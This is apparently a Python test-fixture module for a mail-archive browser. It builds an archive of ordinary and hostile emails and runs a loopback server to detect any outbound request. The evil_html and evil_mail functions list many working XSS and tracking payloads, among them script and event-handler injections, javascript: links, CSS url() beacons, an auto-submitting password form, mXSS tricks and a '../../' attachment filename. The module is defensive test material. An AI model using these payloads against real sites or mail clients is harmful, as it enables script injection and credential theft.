"""Mail that means harm, an archive to look through, and the server that must hear nothing of it."""

from __future__ import annotations

import base64
from contextlib import contextmanager
from email.message import EmailMessage
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread
from typing import TYPE_CHECKING, Self

from werkzeug.serving import WSGIRequestHandler, make_server
from werkzeug.test import Client
from werkzeug.wrappers import Response

from store.archive import Archive
from tests.store.filling import create, put, remote, settle
from waystation.browse.gate import Gate
from waystation.browse.pages import Pages
from waystation.browse.words import Builder
from waystation.model import SpecialUse

if TYPE_CHECKING:
    import socket
    from collections.abc import Iterator
    from pathlib import Path
    from wsgiref.types import WSGIApplication

PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAoAAAAKCAIAAAACUFjqAAAAEklEQVR42mNkYPhfz0AEYBxVSF+FAP5"
    "FDvcfRYWgAAAAAElFTkSuQmCC"
)
FILE = bytes(range(256)) * 700


class Elsewhere:
    """Any other server of the world; a context manager."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        self.connections = 0
        asked = self.asked

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                asked.append(self.path)
                self.send_response(204)
                self.end_headers()

            do_POST = do_GET  # noqa: N815 - the name that is called

            def log_message(self, format: str, *args: object) -> None:  # noqa: A002
                pass

        class Server(ThreadingHTTPServer):
            def get_request(inner) -> tuple[socket.socket, object]:  # noqa: N805
                self.connections += 1
                return super().get_request()

        self._server = Server(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self._server.server_address[1]}"
        self._thread = Thread(target=self._server.serve_forever, args=(0.01,), daemon=True)

    def __enter__(self) -> Self:
        self._thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self._server.shutdown()
        self._server.server_close()
        self._thread.join()


def evil_html(elsewhere: str) -> str:
    """Everything that a mail might try."""
    return f"""
<base href="{elsewhere}/base/"><meta http-equiv="refresh" content="0; url={elsewhere}/refresh">
<link rel="stylesheet" href="{elsewhere}/link.css"><link rel="prefetch" href="{elsewhere}/prefetch">
<style>@import url({elsewhere}/import.css); body {{ background: url({elsewhere}/body.png) }}
@font-face {{ font-family: f; src: url({elsewhere}/font) }} * {{ font-family: f }}</style>
<script>document.title = "owned"; alert("owned"); fetch("{elsewhere}/script")</script>
<script src="{elsewhere}/src.js"></script>
<img src="{elsewhere}/image.png" onerror="alert('owned')"><img src="relative.png">
<img src="x" onerror="parent.location='{elsewhere}/onerror'"><img srcset="{elsewhere}/srcset 2x">
<img src="cid:logo" alt="logo"><img src=" {elsewhere}/blank"><image src="{elsewhere}/image">
<svg onload="alert('owned')"><image href="{elsewhere}/svg"/><use href="{elsewhere}/use#x"/>
<script>alert("owned")</script><foreignObject><img src="{elsewhere}/foreign"></foreignObject>
</svg><math><mtext><table><mglyph><style><img src=x onerror=alert("owned")></style></mglyph></table>
</math>
<iframe src="{elsewhere}/iframe" srcdoc="<script>alert('owned')</script>"></iframe>
<object data="{elsewhere}/object"></object><embed src="{elsewhere}/embed">
<video src="{elsewhere}/video" poster="{elsewhere}/poster" autoplay></video>
<audio src="{elsewhere}/audio" autoplay></audio><input type="image" src="{elsewhere}/input">
<table background="{elsewhere}/table"><tr><td style="background:url({elsewhere}/td)">cell</td>
</table>
<p style="background-image: url('{elsewhere}/p'); list-style: url({elsewhere}/list)">styled</p>
<p style="position:fixed;top:0;left:0;width:100%;height:100%" id="q">over all</p>
<form action="{elsewhere}/form" method="post"><input name="password" autofocus
 onfocus="this.form.submit()"><button id="send">Send</button></form>
<a href="javascript:alert('owned')" id="j">script</a> <a href="{elsewhere}/ping"
 ping="{elsewhere}/pinged">link</a> <a href="data:text/html,<script>alert(1)</script>">data</a>
<noscript><p title="</noscript><img src=x onerror=alert('owned')>"></noscript>
<div onmouseover="alert('owned')" style="width:expression(alert('owned'))">words of the mail</div>
<details open ontoggle="alert('owned')"><summary>more</summary></details><marquee onstart=alert(1)>
"""


def evil_mail(elsewhere: str) -> bytes:
    made = EmailMessage()
    made["From"] = '"<script>alert(1)</script>" <evil@example.org>'
    made["Subject"] = '"><script>alert("owned")</script><img src=x onerror=alert(1)>'
    made.set_content("see the HTML")
    made.add_alternative(evil_html(elsewhere), subtype="html", charset="utf-8")
    html = made.get_payload()[1]  # type: ignore[index]
    html.add_related(PNG, "image", "png", cid="<logo>")  # type: ignore[union-attr]
    made.add_attachment(
        f"<script>fetch('{elsewhere}/attached')</script>",
        subtype="html",
        filename="../../evil.html",
    )
    made.add_attachment(
        f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"fetch('{elsewhere}/s')\"/>".encode(),
        maintype="image",
        subtype="svg+xml",
        filename='a"; b.svg',
        cid="<svg>",
    )
    return made.as_bytes()


def report_mail() -> bytes:
    made = EmailMessage()
    made["From"] = "Åsa Köhler <asa@example.org>"
    made["To"] = "Bob <bob@example.org>"
    made["Date"] = "Wed, 01 May 2024 12:00:00 +0200"
    made["Subject"] = "Bericht für März"
    made.set_content("Grüße aus Köln,\n\nder Bericht liegt bei.\n\n-- \nÅsa\n")
    made.add_attachment(FILE, maintype="application", subtype="pdf", filename="Bericht Köln.pdf")
    return made.as_bytes()


HUGE = b"Content-Type: text/html\r\nSubject: huge\r\n\r\n" + b"<p>a long paragraph</p>\r\n" * 60_000
DEEP = b"Content-Type: text/html\r\nSubject: deep\r\n\r\n" + b"<div>" * 5000 + b"at the bottom"
WRONG = (
    b"Content-Type: text/html; charset=no-such-charset\r\nSubject: =?x?q?=ff?= wrong\r\n\r\n"
    b"<p>Gr\xfc\xdfe \x84an alle\x93</p>\x00<p>end"
)
BROKEN = b"\xff\xfe\x00: nothing\r\nContent-Type: multipart/mixed; boundary=\r\n\r\n--\r\n\x80" * 3


def shelf(path: Path, elsewhere: str = "http://127.0.0.1:9") -> Path:
    """Make an archive with good and evil mail in it."""
    with create(path) as archive:
        inbox = archive.ensure_folder(("INBOX",), SpecialUse.INBOX)
        odd = archive.ensure_folder(("Projekte", "<b>&amp;"), None)
        batch = archive.batch()
        mails = (report_mail(), evil_mail(elsewhere), HUGE, DEEP, WRONG, BROKEN, b"")
        for uid, mail in enumerate(mails, 1):
            flags = ("\\Seen",) if uid > 1 else ()
            put(archive, batch, inbox, remote(uid, flags, ("todo",)), mail)
        put(archive, batch, odd, remote(1, internaldate=None), b"Subject: undated\r\n\r\ntext\r\n")
        batch.commit()
        settle(archive, inbox)
        archive.index.add_failed(odd.id, 1, 5, "the server said <no>")
    return path


def number_of(path: Path, uid: int) -> int:
    with Archive.read(path) as archive:
        inbox = archive.index.folder("INBOX")
        assert inbox is not None
        message = archive.index.by_location(inbox.id, 1, uid)
        assert message is not None
        return message.id


def client_of(path: Path, words: Builder | None = None) -> Client:
    """Return what asks for pages without a network; every path begins with ``/token``."""
    gate = Gate("token", Pages(path, words or Builder(path)).answer)
    gate.hosts = frozenset(("localhost",))
    return Client(gate)


@contextmanager
def serving(path: Path) -> Iterator[str]:
    """Serve an archive from this process; gives the address."""
    gate = Gate("token", Pages(path, Builder(path)).answer)
    with _listening(gate) as port:
        gate.hosts = frozenset((f"127.0.0.1:{port}",))
        yield f"http://127.0.0.1:{port}/token/"


@contextmanager
def unguarded(html: str) -> Iterator[str]:
    """Serve a page as it is; gives the address."""
    with _listening(Response(html, content_type="text/html")) as port:
        yield f"http://127.0.0.1:{port}/"


@contextmanager
def _listening(answer: WSGIApplication) -> Iterator[int]:
    server = make_server("127.0.0.1", 0, answer, threaded=True, request_handler=_Silent)
    thread = Thread(target=server.serve_forever, args=(0.01,), daemon=True)
    thread.start()
    try:
        yield server.port
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


class _Silent(WSGIRequestHandler):
    def log(self, type: str, message: str, *args: object) -> None:  # noqa: A002
        pass
